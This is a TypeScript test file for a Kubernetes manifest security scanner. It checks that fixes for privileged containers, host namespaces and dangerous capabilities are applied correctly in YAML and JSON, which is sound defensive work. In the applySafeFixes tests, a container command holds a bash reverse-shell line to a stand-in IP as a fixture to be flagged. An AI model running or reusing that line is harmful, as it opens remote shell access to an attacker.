/**
 * Fixes live beside their indicators (`Indicator.fix`, edits by JSON pointer); the core turns them into
 * text edits in the source's own style and proves each by analysing the edited text. These tests apply
 * every indicator's fix in block YAML, flow YAML, JSON, a multi-document file and a CRLF file, and check
 * that the look-alikes an edit could get wrong (aliases, merges, block scalars) get no fix at all.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyseManifest, applySafeFixes, applyTextEdits, INDICATORS, quickFixes, type QuickFix } from '../src/index.js';
import { parseText } from '../src/yaml/parse.js';
import { pointerEditsToText, type PointerEdit } from '../src/yaml/pointer-edits.js';

/** A Job whose pod spec is `spec` (block YAML, indented by 6). */
function job(spec: string): string {
  return ['apiVersion: batch/v1', 'kind: Job', 'metadata:', '  name: j', 'spec:', '  template:', '    spec:', ...spec.split('\n').map((line) => (line === '' ? '' : `      ${line}`))].join('\n') + '\n';
}

const CONTAINER = 'containers:\n  - name: c\n    image: registry.example.com/app:1';

/** The indicator's own fix for the first finding of `indicator`, or undefined when none is offered. */
function indicatorFix(text: string, indicator: string, fileName = 'job.yaml'): QuickFix | undefined {
  const finding = analyseManifest(text, fileName).findings.find((candidate) => candidate.indicator === indicator);
  assert.ok(finding, `a ${indicator} finding in:\n${text}`);
  return quickFixes(text, fileName, finding, { comments: !fileName.endsWith('.json') }).find((fix) => fix.kind === 'fix');
}

/** Applies the fix and checks the finding is gone and nothing else changed in the analysis. */
function applied(text: string, indicator: string, fileName = 'job.yaml'): { fix: QuickFix; text: string } {
  const fix = indicatorFix(text, indicator, fileName);
  assert.ok(fix, `a fix for ${indicator}`);
  const edited = applyTextEdits(text, fix.edits);
  const after = analyseManifest(edited, fileName);
  assert.equal(after.findings.filter((finding) => finding.indicator === indicator).length, 0, edited);
  assert.deepEqual(after.errors, []);
  return { fix, text: edited };
}

describe('privileged-container', () => {
  test('sets privileged: false in block style, keeping the line as it was', () => {
    const text = job(`${CONTAINER}\n    securityContext:\n      privileged: true   # needed?`);
    const { fix, text: edited } = applied(text, 'privileged-container');
    assert.equal(fix.title, 'Set privileged: false');
    assert.equal(fix.safe, true);
    assert.equal(edited, text.replace('privileged: true', 'privileged: false'));
  });

  test('in flow style, quoted keys included', () => {
    const text = job(`${CONTAINER}\n    securityContext: {"privileged": true, runAsUser: 1000}`);
    assert.equal(applied(text, 'privileged-container').text, text.replace('"privileged": true', '"privileged": false'));
  });

  test('in a JSON manifest', () => {
    const text = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { containers: [{ name: 'c', image: 'a:1', securityContext: { privileged: true } }] } } } }, null, 2);
    const edited = applied(text, 'privileged-container', 'job.json').text;
    assert.equal(JSON.parse(edited).spec.template.spec.containers[0].securityContext.privileged, false);
    assert.equal(edited, text.replace('"privileged": true', '"privileged": false'));
  });

  test('in the second document of a file, leaving the first alone', () => {
    const first = job(CONTAINER);
    const text = `${first}---\n${job(`${CONTAINER}\n    securityContext:\n      privileged: true`)}`;
    const { text: edited } = applied(text, 'privileged-container');
    assert.ok(edited.startsWith(first));
    assert.equal(edited, text.replace('privileged: true', 'privileged: false'));
  });

  test('offers no fix for a Windows HostProcess container: it is not an ordinary container with one switch off', () => {
    const text = job(`${CONTAINER}\n    securityContext:\n      windowsOptions:\n        hostProcess: true`);
    assert.equal(indicatorFix(text, 'privileged-container'), undefined);
  });

  test('offers no fix through an alias or a merge of an anchor: editing it would change every place that uses it', () => {
    const text = job(`${CONTAINER}\n    securityContext: &ctx\n      privileged: true\n  - name: d\n    image: registry.example.com/app:1\n    securityContext: *ctx\n  - name: e\n    image: registry.example.com/app:1\n    securityContext:\n      <<: *ctx`);
    const findings = analyseManifest(text, 'job.yaml').findings.filter((candidate) => candidate.indicator === 'privileged-container');
    assert.deepEqual(findings.map((finding) => finding.path.split('/')[5]), ['0', '1', '2']);
    const offered = findings.map((finding) => quickFixes(text, 'job.yaml', finding).some((fix) => fix.kind === 'fix'));
    // At the anchor itself the edit is in place (and fixes its aliases too); behind an alias it is refused.
    assert.deepEqual(offered, [true, false, false]);
  });

  test('keeps the tag of a block scalar, so the value stays a boolean', () => {
    const text = job(`${CONTAINER}\n    securityContext:\n      privileged: !!bool |-\n        true`);
    assert.equal(applied(text, 'privileged-container').text, text.replace(/true$/m, 'false'));
  });
});

describe('privilege-escalation', () => {
  test('sets allowPrivilegeEscalation: false', () => {
    const text = job(`${CONTAINER}\n    securityContext:\n      allowPrivilegeEscalation: true`);
    const { fix, text: edited } = applied(text, 'privilege-escalation');
    assert.equal(fix.title, 'Set allowPrivilegeEscalation: false');
    assert.equal(fix.safe, true);
    assert.equal(edited, text.replace('allowPrivilegeEscalation: true', 'allowPrivilegeEscalation: false'));
  });

  test('in a CRLF file, touching no line break', () => {
    const text = job(`${CONTAINER}\n    securityContext:\n      allowPrivilegeEscalation: yes`).replace(/\n/g, '\r\n');
    const { text: edited } = applied(text, 'privilege-escalation');
    assert.equal(edited, text.replace('allowPrivilegeEscalation: yes', 'allowPrivilegeEscalation: false'));
  });
});

describe('host-network, host-pid, host-ipc', () => {
  for (const [indicator, field] of [['host-network', 'hostNetwork'], ['host-pid', 'hostPID'], ['host-ipc', 'hostIPC']]) {
    test(`${indicator}: removes the ${field}: true line`, () => {
      const text = job(`${field}: true  # for the node's DNS\n${CONTAINER}`);
      const { fix, text: edited } = applied(text, indicator);
      assert.equal(fix.title, `Remove ${field}: true`);
      assert.equal(fix.safe, true);
      assert.equal(edited, text.replace(`      ${field}: true  # for the node's DNS\n`, ''));
    });
  }

  test('in a CRLF file, the whole line goes with its CRLF', () => {
    const text = job(`restartPolicy: Never\nhostPID: true\n${CONTAINER}`).replace(/\n/g, '\r\n');
    assert.equal(applied(text, 'host-pid').text, text.replace('      hostPID: true\r\n', ''));
  });

  test('from a flow mapping, with its comma, first, middle or last', () => {
    const flow = (entries: string) => `apiVersion: batch/v1\nkind: Job\nmetadata: {name: j}\nspec: {template: {spec: {${entries}}}}\n`;
    assert.equal(applied(flow('hostIPC: true, containers: []'), 'host-ipc').text, flow('containers: []'));
    assert.equal(applied(flow('restartPolicy: Never, hostIPC: true, containers: []'), 'host-ipc').text, flow('restartPolicy: Never, containers: []'));
    assert.equal(applied(flow('containers: [], hostIPC: true'), 'host-ipc').text, flow('containers: []'));
  });

  test('from JSON, which stays JSON', () => {
    const text = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { containers: [], hostNetwork: true } } } }, null, 2);
    const edited = applied(text, 'host-network', 'job.json').text;
    assert.deepEqual(JSON.parse(edited).spec.template.spec, { containers: [] });
  });

  test('offers no fix when the key shares its line with a sequence marker it would take along', () => {
    // A List whose item is written `- hostNetwork: true`-style cannot happen for a pod spec, but a
    // key on the line of an unrelated `- ` must never lose the marker: the pointer edit refuses.
    const root = parseText('- hostNetwork: true\n  other: 1\n', { kubernetesScalars: true }).documents[0].root;
    assert.equal(pointerEditsToText('- hostNetwork: true\n  other: 1\n', root, [{ op: 'remove', path: '/0/hostNetwork' }]), undefined);
  });
});

describe('dangerous-capabilities', () => {
  test('removes the capability from a block list, and is not safe to apply unattended', () => {
    const text = job(`${CONTAINER}\n    securityContext:\n      capabilities:\n        add:\n          - NET_BIND_SERVICE\n          - SYS_ADMIN`);
    const { fix, text: edited } = applied(text, 'dangerous-capabilities');
    assert.equal(fix.title, 'Remove the SYS_ADMIN capability');
    assert.equal(fix.safe, false);
    assert.equal(edited, text.replace('                - SYS_ADMIN\n', ''));
  });

  test('removes the capability from a flow list', () => {
    const text = job(`${CONTAINER}\n    securityContext:\n      capabilities: {add: [cap_sys_ptrace, NET_BIND_SERVICE]}`);
    assert.equal(applied(text, 'dangerous-capabilities').text, text.replace('cap_sys_ptrace, ', ''));
  });
});

describe('suppression fixes', () => {
  test('add the annotation with the indentation the file uses', () => {
    const text = 'apiVersion: batch/v1\nkind: Job\nmetadata:\n    name: j\nspec:\n    template:\n        spec:\n            hostNetwork: true\n            containers: []\n';
    const finding = analyseManifest(text, 'job.yaml').findings[0];
    const fix = quickFixes(text, 'job.yaml', finding).find((candidate) => candidate.kind === 'annotation');
    assert.ok(fix);
    assert.equal(fix.safe, false);
    assert.equal(applyTextEdits(text, fix.edits), text.replace('metadata:\n', 'metadata:\n    annotations:\n        "jobsentinel.io/ignore": "host-network"\n'));
  });

  test('add the comment only where the file takes comments', () => {
    const text = job(`hostNetwork: true\n${CONTAINER}`);
    const finding = analyseManifest(text, 'job.yaml').findings[0];
    assert.deepEqual(quickFixes(text, 'job.yaml', finding).map((fix) => fix.kind), ['fix', 'annotation']);
    assert.deepEqual(quickFixes(text, 'job.yaml', finding, { comments: true }).map((fix) => fix.kind), ['fix', 'comment', 'annotation']);
  });
});

describe('pointer edits', () => {
  const root = (text: string) => parseText(text, { kubernetesScalars: true }).documents[0].root;
  const edit = (text: string, edits: PointerEdit[]) => {
    const textEdits = pointerEditsToText(text, root(text), edits);
    return textEdits && applyTextEdits(text, textEdits);
  };

  test('add a key first in a block mapping, quoting keys YAML 1.1 would read as booleans', () => {
    assert.equal(edit('a:\n  b: 1\n', [{ op: 'add', path: '/a/on', value: 'x' }]), 'a:\n  "on": "x"\n  b: 1\n');
    assert.equal(edit('a:\n  b: 1\n', [{ op: 'add', path: '/a/c', value: { 'd/e': true } }]), 'a:\n  c:\n    "d/e": true\n  b: 1\n');
  });

  test('add a key to a flow mapping, empty or not', () => {
    assert.equal(edit('a: {}\n', [{ op: 'add', path: '/a/c', value: 1 }]), 'a: {"c": 1}\n');
    assert.equal(edit('a: {b: 1}\n', [{ op: 'add', path: '/a/c', value: null }]), 'a: {"c": null, b: 1}\n');
  });

  test('refuse what cannot be placed: a missing node, an existing key, a collection, overlapping edits', () => {
    assert.equal(edit('a: 1\n', [{ op: 'replace', path: '/b', value: 2 }]), undefined);
    assert.equal(edit('a: 1\n', [{ op: 'add', path: '/a', value: 2 }]), undefined);
    assert.equal(edit('a: {b: 1}\n', [{ op: 'remove', path: '/a' }]), undefined);
    assert.equal(edit('a: [1]\n', [{ op: 'remove', path: '/a/x' }]), undefined);
    assert.equal(edit('a: 1\n', [{ op: 'replace', path: '/a', value: 2 }, { op: 'remove', path: '/a' }]), undefined);
  });

  test('write strings so YAML reads them back as strings', () => {
    assert.equal(edit('a: 1\n', [{ op: 'replace', path: '/a', value: 'yes' }]), 'a: "yes"\n');
  });
});

describe('applySafeFixes', () => {
  const text = job(`hostNetwork: true\nhostPID: true\n${CONTAINER}\n    command: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]\n    securityContext:\n      privileged: true\n      allowPrivilegeEscalation: true\n      capabilities: {add: [SYS_ADMIN]}`);

  test('applies every safe fix and leaves the rest, reporting both', () => {
    const result = applySafeFixes(text, 'job.yaml');
    assert.deepEqual(result.fixed.map((fix) => fix.finding.indicator).sort(), ['host-network', 'host-pid', 'privilege-escalation', 'privileged-container']);
    assert.deepEqual([...new Set(result.result.findings.map((finding) => finding.indicator))].sort(), ['dangerous-capabilities', 'shell-escape']);
    assert.equal(result.text, analyseAgain(result.text));
    assert.ok(result.text.includes('"sh", "-c", "bash -i'), 'the command is never touched');
    // Each fixed finding is reported where it was in the file as given.
    const original = analyseManifest(text, 'job.yaml').findings;
    for (const fix of result.fixed) assert.ok(original.some((finding) => finding.path === fix.finding.path && finding.range?.start.line === fix.finding.range?.start.line));
  });

  test('changes nothing in a file with nothing safe to fix', () => {
    const clean = job(`${CONTAINER}\n    command: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]`);
    const result = applySafeFixes(clean, 'job.yaml');
    assert.equal(result.text, clean);
    assert.deepEqual(result.fixed, []);
    assert.deepEqual([...new Set(result.result.findings.map((finding) => finding.indicator))], ['shell-escape']);
  });

  function analyseAgain(fixed: string): string {
    assert.deepEqual(analyseManifest(fixed, 'job.yaml').errors, []);
    return fixed;
  }
});

test('every indicator with a fix is tested here', async () => {
  const source = await import('node:fs/promises').then((fs) => fs.readFile(new URL(import.meta.url), 'utf8'));
  for (const indicator of INDICATORS.filter((candidate) => candidate.fix)) assert.ok(source.includes(`'${indicator.id}'`), indicator.id);
});
